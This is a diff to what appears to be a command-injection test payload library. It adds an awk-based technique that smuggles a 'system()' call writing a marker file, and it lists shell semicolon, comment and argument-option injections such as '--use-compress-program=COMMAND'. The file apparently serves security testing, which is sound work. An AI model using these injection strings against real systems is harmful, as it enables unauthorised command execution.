@@ -60,6 +60,11 @@ def _and_only(aim: Aim) -> tuple[Payload, ...]:
     return (Payload(text, Evidence((), aim.mark, aim.content)),)
 
 
+def _awk(aim: Aim) -> tuple[Payload, ...]:
+    text = f'1;system("cd;echo {aim.content}>{aim.mark}")'
+    return (Payload(text, Evidence((), aim.mark, aim.content)),)
+
+
 TECHNIQUES = (
     _command("shell.semicolon", "x;COMMAND;", representative=True),
     _command("shell.comment", "x;COMMAND #"),
@@ -77,6 +82,7 @@ TECHNIQUES = (
     _output("shell.output-double-quote", 'x";expr {} \\* {};"'),
     Technique("shell.redirection", _redirection, representative=True),
     Technique("shell.and-only", _and_only),
+    Technique("shell.awk", _awk),
     _option("shell.option.output", "--output=FILE", representative=True),
     _option("shell.option.output-short", "-oFILE"),
     _option("shell.option.compress-program", "--use-compress-program=COMMAND"),
